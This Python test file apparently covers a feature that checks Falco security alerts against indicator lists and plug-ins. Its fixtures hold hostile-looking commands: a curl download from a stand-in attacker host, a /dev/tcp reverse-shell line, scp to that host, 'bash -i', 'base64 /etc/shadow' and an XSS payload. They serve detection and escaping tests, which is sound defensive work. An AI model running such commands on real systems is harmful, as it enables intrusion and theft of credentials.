"""Outside sources are asked by name alone; what they say is theirs, cited, and stops no report."""

from __future__ import annotations

import json
import re
import sys
import tempfile
from importlib.metadata import EntryPoint
from pathlib import Path
from types import SimpleNamespace

import jsonschema
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

import analysis as fa
from analysis import enrichment
from analysis.cli import main
from analysis.enrichment import Answer, Statement
from analysis.enrichment.ioc import ioc
from analysis.enrichment.kinds import READINGS, kind_of, kinds
from analysis.enrichment.stix import alternatives
from analysis.report import manifest
from analysis.report.document import schema
from analysis.report.shelf import Shelf

from .conftest import ROOT, SAMPLES, lines, story

HOSTILE = "<img src=x onerror=alert(1)>\u202e"


def correlated(*alerts: dict):
    """Return alerts as an enrichment gets them."""
    return fa.correlate(fa.read_alerts(lines(*alerts))[0]).alerts


def run(*arguments: object, stdin: bytes | None = None):
    """Run the command in this process."""
    return CliRunner().invoke(main, [*map(str, arguments)], input=stdin)


def csv_of(path: Path, *rows: str) -> Path:
    """Write a list; each row a line."""
    path.write_text("type,value,description\n" + "".join(f"{row}\n" for row in rows))
    return path


def bundle_of(path: Path, *indicators: dict) -> Path:
    """Write a STIX bundle of indicators, each with what its kind must have."""
    objects = [
        {"type": "indicator", "id": f"indicator--{n}", "pattern_type": "stix",
         "valid_from": "2020-01-01T00:00:00Z"} | one
        for n, one in enumerate(indicators)
    ]  # fmt: skip
    path.write_text(json.dumps({"type": "bundle", "id": "bundle--1", "objects": objects}))
    return path


def told(answer: Answer) -> dict[str, list[str]]:
    """Return the fields cited, by what the list says where."""
    return {one.reference: [field for _, field in one.evidence] for one in answer.statements}


@pytest.fixture
def caller(shell) -> dict:
    """A shell that calls out, with a socket."""
    return story(
        shell,
        **{
            "proc.cmdline": "curl -s http://evil.example:8080/a.sh --host=198.51.100.7",
            "proc.exepath": "/tmp/.x/curl",
            "fd.name": "10.0.0.1:59954->203.0.113.9:443",
            "fd.sip": "203.0.113.9",
            "fd.rip.name": "Evil.Example.",
        },
    )


# ------------------------------------------------------------------ the list that ships
def test_a_value_is_found_in_the_fields_that_may_hold_it(caller, tmp_path):
    """Each as a whole; a finding names the list, the line and what the list says of it."""
    listed = csv_of(
        tmp_path / "iocs.csv",
        "ip,203.0.113.9,a controller",
        "ip,203.0.113.90,",
        "ipv4-addr,198.51.100.7,",
        "domain,EVIL.example,",
        "url,http://evil.example:8080/a.sh,",
        "url,http://evil.example:8080/a,",
        "file-name,curl,",
        "file-name,url,",
        "path,/tmp/.x/curl,",
    )

    answer = ioc(correlated(caller), str(listed))

    assert told(answer) == {
        "line 2": ["fd.sip", "fd.name"],
        "line 4": ["proc.cmdline"],
        "line 5": ["fd.rip.name", "proc.cmdline"],
        "line 6": ["proc.cmdline"],
        "line 8": ["proc.exepath"],
        "line 10": ["proc.exepath"],
    }
    first = answer.statements[0]
    assert first.claim == (
        "iocs.csv lists the address 203.0.113.9 as 'a controller'. It is the value of fd.sip and "
        "an address in fd.name, in 1 alert of this incident."
    )
    assert (first.source, first.reference, first.severity, first.confidence) == (
        "iocs.csv", "line 2", "medium", "medium",
    )  # fmt: skip
    assert answer.inputs == {"iocs.csv": manifest.digest(listed.read_bytes())}


@pytest.mark.parametrize(
    ("written", "field", "value"),
    [
        ("ip,2001:db8:0:0::5,", "fd.rip", "2001:db8::5"),
        ("ip,::ffff:203.0.113.9,", "fd.rip", "203.0.113.9"),
        ("ip,2001:db8::5,", "fd.name", "2001:db8::1:4000->2001:db8::5:443"),
        ("ip,203.0.113.9,", "fd.name", "203.0.113.9:22"),
        ("ip,203.0.113.9,", "proc.cmdline", "bash -c 'exec 3<>/dev/tcp/203.0.113.9/443'"),
        ("ip,2001:db8::5,", "proc.cmdline", "curl http://[2001:db8::5]:80/"),
        ("ip,203.0.113.9,", "ka.sourceips", ["10.0.0.1", "203.0.113.9"]),
        ("domain,evil.example,", "proc.cmdline", "scp a root@evil.example:/tmp"),
        (f"sha256,{'AB' * 32},", "container.image.digest", f"sha256:{'ab' * 32}"),
        ("command,bash -i,", "proc.cmdline", "bash -i"),
    ],
)
def test_two_spellings_of_one_value_are_equal(shell, tmp_path, written, field, value):
    """Addresses by what they are, names and digests without regard to case."""
    answer = ioc(
        correlated(story(shell, **{field: value})), str(csv_of(tmp_path / "l.csv", written))
    )

    assert told(answer) == {"line 2": [field]}


@pytest.mark.parametrize(
    ("written", "field", "value"),
    [
        ("ip,203.0.113.9,", "fd.name", "10.0.0.1:1->203.0.113.99:443"),
        ("ip,203.0.113.9,", "fd.name", "/tmp/203.0.113.9:443"),
        ("ip,203.0.113.9,", "proc.cmdline", "cat /tmp/203.0.113.9"),
        ("domain,evil.example,", "proc.cmdline", "curl http://www.evil.example/"),
        ("domain,run.sh,", "proc.cmdline", "bash /opt/run.sh"),
        ("domain,evil.example,", "fd.rip.name", "evil.example.org"),
        ("file-name,sh,", "proc.exepath", "/usr/bin/bash"),
        ("command,bash,", "proc.cmdline", "bash -i"),
    ],
)
def test_what_only_looks_alike_is_no_match(shell, tmp_path, written, field, value):
    """Neither a part of a value nor a value in another place."""
    answer = ioc(
        correlated(story(shell, **{field: value})), str(csv_of(tmp_path / "l.csv", written))
    )

    assert [one for one in told(answer).values() if field in one] == []


def test_what_is_not_looked_for_is_counted_with_its_reason(caller, tmp_path):
    """Types and values that cannot be compared, each with its line; comments are none."""
    listed = csv_of(
        tmp_path / "l.csv",
        "# comment",
        "md5,d41d8cd98f00b204e9800998ecf8427e,",
        "ip,198.51.100.0/24,",
        "ip,198[.]51[.]100[.]7,",
        "domain,*.evil.example,",
        "ip,,",
        "url,hxxp://evil.example/,",
    )

    answer = ioc(correlated(caller), str(listed))

    assert answer.statements == []
    assert sorted(answer.limits) == [
        (
            "l.csv: not looked for, 1 of its entries, as no field of Falco's is known here to hold "
            "'md5' (line 3)"
        ),
        "l.csv: not looked for, 1 of its entries, as the value is no single URL (line 8)",
        "l.csv: not looked for, 1 of its entries, as the value is no single domain name (line 6)",
        (
            "l.csv: not looked for, 3 of its entries, as the value is no single address "
            "(line 4, line 5, line 7)"
        ),
    ]


def test_where_no_field_is_told_nothing_is_excluded(shell, tmp_path):
    """An alert without the fields is no alert without the value, and the answer says so."""
    listed = csv_of(tmp_path / "l.csv", f"sha256,{'ab' * 32},", "path,/bin/x,")
    alert = story(shell, **{"container.image.digest": ..., "proc.exepath": "/usr/bin/bash"})

    limits = ioc(correlated(alert), str(listed)).limits

    assert limits == [
        (
            "l.csv: 1 SHA-256 value can be neither found nor excluded: no alert here tells any of "
            "container.image.digest"
        ),
        (
            "l.csv: 1 file path value looked for, as told in proc.exepath (1 of 1 alerts); in no other "
            "field"
        ),
    ]


def test_a_bundle_is_read_as_far_as_alerts_can_answer(caller, tmp_path):
    """Equal values, one of several; what asks more is said not to be looked for, by its id."""
    listed = bundle_of(
        tmp_path / "b.json",
        {"pattern": "[ipv4-addr:value = '203.0.113.9']", "name": "C2", "description": "of X"},
        {"pattern": "[file:hashes.MD5 = 'x' OR domain-name:value = 'evil.example']"},
        {"pattern": "[ipv4-addr:value = '203.0.113.9' AND ipv4-addr:value = '10.0.0.1']"},
        {"pattern": "[ipv4-addr:value = '203.0.113.9']", "revoked": True},
        {"pattern": "alert ip any any", "pattern_type": "snort"},
        {"pattern": "[file:name = 'curl']", "valid_until": "2020-06-01T00:00:00Z"},
        {"pattern": "[file:name = 'curl']", "valid_until": "9999-12-31T23:59:59Z"},
        {"pattern": "[file:name = 'curl']", "valid_until": "soon"},
        {"type": "malware", "name": "curl"},
    )

    answer = ioc(correlated(caller), str(listed))

    assert told(answer) == {
        "indicator--0": ["fd.sip", "fd.name"],
        "indicator--1": ["fd.rip.name", "proc.cmdline"],
        "indicator--5": ["proc.exepath"],
        "indicator--6": ["proc.exepath"],
    }
    claims = {one.reference: one for one in answer.statements}
    assert "as 'C2: of X'" in claims["indicator--0"].claim
    assert claims["indicator--5"].claim.endswith(
        "The list calls it valid from 2020-01-01 00:00:00 until 2020-06-01 00:00:00 (UTC); no alert "
        "that has it is known to be from then."
    )
    assert "no alert that has it" not in claims["indicator--6"].claim
    left_out = " ".join(one for one in answer.limits if "not looked for" in one)
    for reason in (
        "hold 'file:hashes.MD5' (indicator--1)",
        "as their pattern asks more than that a value is equal (indicator--2, indicator--4)",
        "as they are revoked (indicator--3)",
        "as valid_from or valid_until is no time (indicator--7)",
    ):
        assert reason in left_out


@given(st.lists(st.tuples(st.sampled_from(["ipv4-addr:value", "file:hashes.'SHA-256'", "url:value"]),
                          st.text(st.characters(exclude_categories=["Cs"]))), min_size=1, max_size=5))  # fmt: skip
def test_a_pattern_of_equal_values_is_read_back(pairs):
    """Whatever the values hold: quotes, brackets and words of the language are text in them."""
    escaped = [(path, text.replace("\\", "\\\\").replace("'", "\\'")) for path, text in pairs]
    pattern = " OR ".join(f"{path} = '{text}'" for path, text in escaped)

    expected = [(path.replace("'", ""), text) for path, text in pairs]
    assert alternatives(f"[{pattern}]") == expected
    assert alternatives(f"[{pattern} AND file:name = 'x']") is None
    assert alternatives(f"NOT [{pattern}]") is None


def test_the_kinds_are_sound():
    """Each reading is one there is, no name means two kinds, and Falco has the fields."""
    names = [name for one in kinds().values() for name in (*one.names, *one.paths)]

    assert len(names) == len(set(names))
    for kind in kinds().values():
        assert set(kind.fields.values()) <= READINGS.keys()
        assert all(kind_of(name) == kind for name in (*kind.names, *kind.paths))
    assert kind_of("file:hashes.'SHA-256'").kind == "SHA-256"


def test_the_fields_are_falco_s(shared):
    """Each field that is looked at is in Falco's own list."""
    known = {
        line.split(",")[0] for line in (shared / "reference/fields.csv").read_text().splitlines()
    }
    looked = {field for one in kinds().values() for field in one.fields}

    assert looked <= known


def test_many_indicators_are_one_look_up_each(caller, tmp_path):
    """A list of 50,000 is read once, and answers for an incident in well under a second."""
    import time  # noqa: PLC0415 - for this test alone

    rows = [f"ip,10.9{n >> 16 & 255}.{n >> 8 & 255}.{n & 255}," for n in range(50_000)]
    listed = csv_of(tmp_path / "l.csv", *rows, "ip,203.0.113.9,")
    alerts = correlated(*(story(caller, **{"proc.cmdline": f"bash {n}"}) for n in range(200)))
    ioc(alerts, str(listed))

    start = time.monotonic()
    answer = ioc(alerts, str(listed))

    assert told(answer).keys() == {"line 50002"}
    assert time.monotonic() - start < 1


# ------------------------------------------------------------------ in a report
def only(out: Path) -> tuple[Path, dict]:
    """Return the folder and the document of the one report."""
    (file,) = out.glob("inc-*/report.json")
    return file.parent, json.loads(file.read_text())


def test_findings_stand_in_the_report_as_the_source_s_own(caller, tmp_path):
    """Cited as the alert has it, with list and line; input, key and manifest know the list."""
    source, out = tmp_path / "a.jsonl", tmp_path / "out"
    source.write_bytes(lines(caller))
    listed = csv_of(tmp_path / "iocs.csv", "ip,203.0.113.9,a controller")
    call = ("report", source, "--out", out, "--enrich", f"ioc={listed}")

    assert run("report", source, "--out", tmp_path / "alone").exit_code == 0
    assert run(*call).exit_code == 0
    folder, document = only(out)
    _, alone = only(tmp_path / "alone")
    jsonschema.validate(document, schema())

    (finding,) = document["outside"]["findings"]
    assert [(e["field"], e["value"], e["origin"]) for e in finding["evidence"]] == [
        ("fd.sip", "203.0.113.9", "alerts.jsonl:1"),
        ("fd.name", "10.0.0.1:59954->203.0.113.9:443", "alerts.jsonl:1"),
    ]
    assert (finding["plugin"], finding["source"], finding["reference"]) == (
        "ioc", "iocs.csv", "line 2",
    )  # fmt: skip
    assert document["disposition"] == alone["disposition"]
    assert document["findings"] == alone["findings"]
    assert "Outside sources (ioc) have 1 finding." in document["summary"]
    page = re.sub(r"<[^>]+>", " ", (folder / "report.html").read_text())
    assert "What outside sources say; not this kit&#39;s findings" in page
    assert "iocs.csv (enrichment ioc)" in page

    made = json.loads((folder / "manifest.json").read_text())
    assert made["inputs"]["enrichment 1 (ioc): iocs.csv"] == manifest.digest(listed.read_bytes())
    assert "enrichment.json" in made["outputs"]
    assert str(tmp_path) not in (folder / "enrichment.json").read_text()
    assert "1 there already" in run(*call).stderr
    csv_of(listed, "ip,203.0.113.9,a controller", "ip,192.0.2.1,")
    assert "1 made" in run(*call).stderr
    assert manifest.verify(Shelf(out))[1] == []


def test_what_is_cited_is_shown_without_its_secrets(shell, tmp_path):
    """The alert is looked at as received; its value stands in the report with a mark."""
    told = lines(story(shell, **{"proc.cmdline": "curl --password hunter2secret evil.example"}))
    listed = csv_of(tmp_path / "list.csv", "domain,evil.example,C2")
    for options, holds_it in (((), False), (("--no-redact",), True)):
        out = tmp_path / f"out{holds_it}"
        run("report", "-", "--out", out, "--enrich", f"ioc={listed}", *options, stdin=told)
        (path,) = out.glob("inc-*/report.json")
        (finding,) = json.loads(path.read_text())["outside"]["findings"]

        assert ("hunter2secret" in json.dumps(finding)) == holds_it


@pytest.mark.usefixtures("others")
def test_a_plug_in_s_words_are_shown_without_the_alert_s_secrets(shell, tmp_path):
    """It may quote what it was given: what is a secret there is none in its sentence."""
    told = lines(story(shell, **{"proc.name": "mysql", "proc.args": "-phunter2secret -u app"}))
    for options, holds_it in (((), False), (("--no-redact",), True)):
        out = tmp_path / f"out{holds_it}"
        run("report", "-", "--out", out, "--enrich", "quotes", *options, stdin=told)
        (path,) = out.glob("inc-*/report.json")
        (finding,) = json.loads(path.read_text())["outside"]["findings"]

        assert finding["claim"].startswith("Seen before: ")
        assert ("hunter2secret" in json.dumps(finding)) == holds_it


def test_the_sample_list_finds_its_command_line(tmp_path):
    """README's own call: one finding, in the report of /etc/shadow."""
    listed = ROOT / "data" / "indicators" / "synthetic.csv"

    assert run("report", SAMPLES, "--out", tmp_path, "--enrich", f"ioc={listed}").exit_code == 0
    found = {}
    for file in tmp_path.glob("inc-*/report.json"):
        document = json.loads(file.read_text())
        found[document["rules"][0]] = [one["claim"] for one in document["outside"]["findings"]]

    assert found.pop("Read sensitive file untrusted") == [
        (
            "synthetic.csv lists the command line base64 /etc/shadow as 'how it carries password hashes "
            "away'. It is the value of proc.cmdline, in 1 alert of this incident."
        )
    ]
    assert list(found.values()) == [[], []]


def test_hostile_text_of_a_list_is_shown_harmless(caller, tmp_path):
    """Values, descriptions and reasons are others' text, whatever the plug-in does with them."""
    listed = bundle_of(
        tmp_path / "l.json",
        {"pattern": "[ipv4-addr:value = '203.0.113.9']", "name": HOSTILE, "id": HOSTILE},
        {"pattern": f"[{'x'}:y = '1']", "id": HOSTILE},
    )

    assert run("report", "-", "--out", tmp_path, "--enrich", f"ioc={listed}", stdin=lines(caller)).exit_code == 0  # fmt: skip
    folder, _ = only(tmp_path)
    html = (folder / "report.html").read_text()

    assert "<img" not in html
    assert "\u202e" not in html
    assert html.count("&lt;img src=x onerror=alert(1)&gt;⟨U+202E⟩") >= 3


def test_nothing_is_asked_unasked(caller, tmp_path, monkeypatch):
    """Without --enrich no plug-in is looked up, and the report says that none was asked."""
    monkeypatch.setattr(enrichment, "ask", lambda *_: pytest.fail("asked"))

    (done,) = fa.write_reports(fa.read_alerts(lines(caller))[0], tmp_path)

    assert done.error is None
    assert (
        "No outside source was asked." in (tmp_path / done.incident_id / "report.html").read_text()
    )


def test_an_enrichment_that_is_not_known_is_a_wrong_call(caller, tmp_path):
    """It is named with those there are, and nothing is made."""
    done = run("report", "-", "--out", tmp_path / "o", "--enrich", "oic=x", stdin=lines(caller))

    assert done.exit_code == 2
    assert "no enrichment is called 'oic'; known: ioc" in done.stderr
    assert not (tmp_path / "o").exists()


def test_a_list_that_is_not_there_is_said_and_the_report_is_made(caller, tmp_path):
    """In the report, on the terminal and by the exit code."""
    done = run("report", "-", "--out", tmp_path, "--enrich", "ioc=nowhere.csv", stdin=lines(caller))

    assert done.exit_code == 1
    assert (
        "enrichment failed, as 1 reports say: ioc: SourceError: cannot read nowhere.csv"
        in done.stderr
    )
    _, document = only(tmp_path)
    assert document["outside"]["findings"] == []
    assert document["outside"]["limits"] == [
        {
            "plugin": "ioc",
            "limit": "enrichment ioc failed: SourceError: cannot read nowhere.csv: "
            "No such file or directory",
        }
    ]
    assert "ioc failed" in document["summary"]


@pytest.mark.parametrize(
    "content",
    [b"", b"a,b\n1,2\n", b"{", b"[]", b'{"type": "bundle"}', b"\x00\x01", b"[" * 100_000,
     b'{"type": "report", "objects": []}'],
)  # fmt: skip
def test_a_file_that_is_no_list_fails_alone(caller, tmp_path, content):
    """Whatever it holds, the enrichment says so and raises nothing."""
    (tmp_path / "l").write_bytes(content)
    (plugin,) = enrichment.plugins([f"ioc={tmp_path / 'l'}"])

    said = enrichment.ask(*plugin, correlated(caller))

    assert said.failure.startswith("SourceError: l")
    assert said.statements == ()


# ------------------------------------------------------------------ plug-ins of others
class Plugins:
    """Plug-ins as others write them."""

    @staticmethod
    def inventory(alerts, argument):
        """Say who owns the host."""
        pairs = [(one, "hostname") for one in alerts["alert_id"]]
        claim = f"The host belongs to {argument}"
        alerts["alert_id"] = "mine now"
        return Answer([Statement(claim, pairs, "inventory", "row 7", "low", "high")])

    @staticmethod
    def quotes(alerts, _):
        """Say what stood in the alert."""
        alert = alerts.iloc[0]
        return Answer(
            [
                Statement(
                    f"Seen before: {alert['proc.args']}",
                    [(alert["alert_id"], "proc.args")],
                    "history",
                    f"arguments {alert['proc.args']}",
                )
            ]
        )

    @staticmethod
    def raises(*_):
        """Fail."""
        raise RuntimeError(HOSTILE)

    @staticmethod
    def exits(*_):
        """End the process."""
        sys.exit(3)

    @staticmethod
    def nothing(*_):
        """Return nothing."""

    @staticmethod
    def nonsense(alerts, _):
        """Return statements of which one is sound."""
        cited = [(alerts["alert_id"].iloc[0], "rule")]
        return Answer(
            [
                "a text",
                Statement("", cited, "s", "r"),
                Statement("no evidence", [], "s", "r"),
                Statement("a severity", cited, "s", "r", "terrible"),
                Statement("another's alert", [("a-0000000000000000", "rule")], "s", "r"),
                Statement("no such field", [(cited[0][0], "proc.nosuch")], "s", "r"),
                Statement("sound", cited, "s", "r"),
                Statement("much", cited * 50, "s", "r"),
            ]
        )

    @staticmethod
    def odd(alerts, _):
        """Return texts that no file can hold as they are."""
        cited = [(alerts["alert_id"].iloc[0], "rule")]
        said = Statement("\ud800\x1b[31m", cited, "s" * 10_000, "r")
        half = Statement("half", [*cited, ("\ud800", "\ud801")], "s", "r")
        return Answer([said, half], ["\udfff"], {"\ud800": "\ud800"})

    @staticmethod
    def endless(alerts, _):
        """Never stop talking."""
        cited = [(alerts["alert_id"].iloc[0], "rule")]

        def talk():
            while True:
                yield Statement("again", cited, "s", "r")

        return Answer(talk())


@pytest.fixture
def others(monkeypatch):
    """The plug-ins of others, installed."""
    names = ("inventory", "quotes", "raises", "exits", "nothing", "nonsense", "odd", "endless")
    own = [EntryPoint(n, f"{__name__}:Plugins.{n}", enrichment.GROUP) for n in names]
    own.append(EntryPoint("gone", "no_such_package:enrich", enrichment.GROUP))
    own += [EntryPoint("twice", f"{__name__}:Plugins.{n}", enrichment.GROUP) for n in names[:2]]
    monkeypatch.setattr(enrichment, "entry_points", lambda group: own if group == enrichment.GROUP else [])  # fmt: skip


@pytest.mark.usefixtures("others")
def test_a_report_with_good_and_broken_plug_ins(shell, tmp_path):
    """Each says its part; the kit fills in values itself, and no plug-in changes the alerts."""
    alerts = fa.read_alerts(lines(shell))[0]
    wanted = [
        "inventory=the web team",
        "raises",
        "exits",
        "nothing",
        "gone",
        "nonsense",
        "odd",
        "endless",
    ]

    (done,) = fa.write_reports(alerts, tmp_path, enrich=wanted)

    assert done.error is None
    _, document = only(tmp_path)
    jsonschema.validate(document, schema())
    found = [(f["plugin"], f["claim"]) for f in document["outside"]["findings"]]
    assert found[:4] == [
        ("inventory", "The host belongs to the web team"), ("nonsense", "sound"), ("nonsense", "much"),
        ("odd", "⟨U+D800⟩⟨ESC⟩[31m"),
    ]  # fmt: skip
    assert len(found) == 4 + enrichment.MOST_FINDINGS
    (cited,) = document["outside"]["findings"][0]["evidence"]
    assert (cited["field"], cited["value"]) == ("hostname", shell["hostname"])
    failed = {
        one["plugin"]: one["failure"] for one in document["outside"]["asked"] if one["failure"]
    }
    assert failed == {
        "raises": "RuntimeError: <img src=x onerror=alert(1)>⟨U+202E⟩",
        "exits": "SystemExit: 3",
        "nothing": "it returned NoneType, not an Answer",
        "gone": "ModuleNotFoundError: No module named 'no_such_package'",
    }
    said = [one["limit"] for one in document["outside"]["limits"] if one["plugin"] == "nonsense"]
    assert len(said) == 7
    assert (
        sum(one.startswith("not taken, no alert here has the fields it cites") for one in said) == 2
    )
    assert sum("was not taken" in one for one in said) == 4
    html = (tmp_path / done.incident_id / "report.html").read_text()
    assert "<img" not in html
    assert "enrichment exits failed: SystemExit: 3" in html


def test_the_example_for_plug_ins_is_one(shell):
    """CONTRIBUTING's own plug-in is taken as it stands."""
    text = (ROOT / ".github" / "CONTRIBUTING.md").read_text()
    (code,) = re.findall(r"```python\n(.*?)```", text, re.DOTALL)
    names = {"read_owners": lambda argument: {shell["hostname"]: argument}}
    exec(code, names)

    (said,) = names["inventory"](correlated(shell), "the web team").statements

    assert said.claim == f"{shell['hostname']} belongs to the web team."
    assert [field for _, field in said.evidence] == ["hostname"]


JUNK = st.none() | st.integers() | st.binary() | st.text(st.characters(), max_size=5)
PAIRS = st.lists(st.tuples(JUNK, JUNK) | JUNK, max_size=3) | JUNK
ANSWERS = st.builds(
    Answer,
    st.lists(JUNK | st.builds(Statement, JUNK, PAIRS, JUNK, JUNK, JUNK | st.just("low"), JUNK | st.just("low")))
    | JUNK,
    st.lists(JUNK) | JUNK,
    st.dictionaries(st.text(st.characters(), max_size=3), JUNK) | JUNK,
)  # fmt: skip


@pytest.fixture(scope="session")
def alerts(shell):
    """A shell's alert, as an enrichment gets it."""
    return correlated(shell)


@given(answer=ANSWERS | JUNK)
def test_no_answer_breaks_a_report(answer, alerts):
    """Whatever a plug-in returns: it is filed, read back and shown as findings and limits."""
    plugin = SimpleNamespace(name="x", load=lambda: lambda *_: answer)

    said = enrichment.ask(plugin, "", alerts)
    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder, "e.json")
        file.write_bytes(enrichment.as_file([said]))
        (again,) = enrichment.read_said(file)

    assert enrichment.as_file([again]) == enrichment.as_file([said])
    found, limits = enrichment.findings(alerts, [again])
    assert len(found) <= len(said.statements)
    assert all(text.isprintable() for _, text in limits)


@pytest.mark.usefixtures("others")
def test_a_name_of_two_plug_ins_is_refused():
    """Which one was meant is not guessed."""
    with pytest.raises(ValueError, match="2 enrichments are called 'twice'"):
        enrichment.plugins(["twice=x"])


@pytest.mark.usefixtures("others")
def test_what_was_said_is_read_back(shell, tmp_path):
    """The file in the report gives the same statements; another file is refused."""
    alerts = correlated(shell)
    said = [enrichment.ask(*one, alerts) for one in enrichment.plugins(["inventory=x", "raises"])]
    assert enrichment.as_file(said).isascii()
    (tmp_path / "e.json").write_bytes(enrichment.as_file(said))

    again = enrichment.read_said(tmp_path / "e.json")

    assert enrichment.as_file(again) == enrichment.as_file(said)
    (tmp_path / "bad.json").write_text('[{"plugin": "x"}]')
    with pytest.raises(OSError, match=r"bad\.json is no file of enrichments"):
        enrichment.read_said(tmp_path / "bad.json")
